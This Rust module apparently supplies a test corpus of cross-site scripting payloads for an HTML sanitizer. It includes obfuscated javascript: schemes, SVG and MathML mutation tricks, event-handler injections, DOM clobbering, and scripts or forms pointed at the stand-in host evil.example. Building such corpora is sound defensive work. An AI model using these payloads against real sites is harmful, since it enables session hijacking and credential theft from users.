//! The ways in which HTML is made to act, each with a mark of ours: `window.hit`, or something asked of `evil.example`.

/// What a script would do.
const ACT: &str = "window.hit=1";

/// All of them.
pub(super) fn all() -> Vec<String> {
    let mut all: Vec<String> = PLAIN.iter().map(|kind| kind.replace("ACT", ACT)).collect();
    // Elements that say something happened without anybody's doing.
    for (element, event) in EVENTS {
        all.push(format!("<{element} {event}={ACT}>"));
    }
    // Addresses that run, written so that a search for their beginning fails.
    for scheme in SCHEMES {
        all.push(format!("<a href=\"{}\">go</a>", scheme.replace("ACT", ACT)));
        all.push(scheme.replace("ACT", ACT));
    }
    all
}

const PLAIN: [&str; 42] = [
    "<script>ACT</script>",
    "<script src=//evil.example/a.js></script>",
    "<script type=module>ACT</script>",
    "<script/x>ACT</script>",
    "<svg><script>ACT</script></svg>",
    "<svg><script href=data:,ACT /></svg>",
    "<svg><a xlink:href=\"javascript:ACT\"><text y=20>go</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=ACT>#x\"/></svg>",
    "<svg><set attributeName=href to=javascript:ACT></svg>",
    "<svg><foreignObject><iframe src=javascript:ACT></iframe></foreignObject></svg>",
    "<svg><desc><img src=x onerror=ACT></desc></svg>",
    "<svg><p><style><img title=\"</style><img src=x onerror=ACT>\"></svg>",
    "<math><a xlink:href=javascript:ACT>go</a></math>",
    "<math><mi href=javascript:ACT>go</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=ACT&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ACT>",
    "<iframe srcdoc=\"&lt;script&gt;ACT&lt;/script&gt;\"></iframe>",
    "<iframe src=javascript:ACT></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=javascript:ACT></object>",
    "<object data=//evil.example/a.swf><param name=allowscriptaccess value=always></object>",
    "<embed src=javascript:ACT>",
    "<frameset onload=ACT><frame src=javascript:ACT></frameset>",
    "<applet code=a codebase=//evil.example/></applet>",
    "<form action=javascript:ACT><button>go</button></form>",
    "<form action=//evil.example/><input name=password></form>",
    "<button formaction=javascript:ACT>go</button>",
    "<input type=image src=//evil.example/a.png formaction=javascript:ACT>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:ACT\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<meta charset=utf-7>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=manifest href=//evil.example/a>",
    "<style>@import url(//evil.example/a.css);body{background:url(//evil.example/b)}</style>",
    "<p style=\"background:url(//evil.example/c);width:expression(ACT);-moz-binding:url(//evil.example/d)\">so</p>",
    "<img src=//evil.example/a.png srcset=//evil.example/b.png>",
    "<a id=query name=content href=//evil.example/ ping=//evil.example/ping target=_top>go</a>",
    "<form id=keys name=document><input name=body><input name=querySelector></form>",
    "<portal src=//evil.example/></portal><fencedframe src=//evil.example/></fencedframe>",
    "<?xml-stylesheet href=\"javascript:ACT\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"//evil.example/\">]>&e;",
];

const EVENTS: [(&str, &str); 18] = [
    ("img src=x", "onerror"),
    ("img src=x", "OnErRoR"),
    ("img/src=x/", "onerror"),
    ("svg", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("body", "onload"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("x tabindex=1 autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video><source src=x", "onerror"),
    ("audio src=x autoplay", "onerror"),
    ("marquee loop=1", "onfinish"),
    ("div style=animation-name:x", "onanimationstart"),
    ("p popover", "onbeforetoggle"),
    ("b contenteditable autofocus", "onfocusin"),
    ("object data=x", "onerror"),
];

const SCHEMES: [&str; 12] = [
    "javascript:ACT",
    "JaVaScRiPt:ACT",
    "java\tscript:ACT",
    "java\nscript:ACT",
    " \u{1}javascript:ACT",
    "javascript&colon;ACT",
    "&#106;avascript:ACT",
    "javascript://evil.example/%0aACT",
    "vbscript:ACT",
    "data:text/html,<script>ACT</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "blob:https://evil.example/1",
];
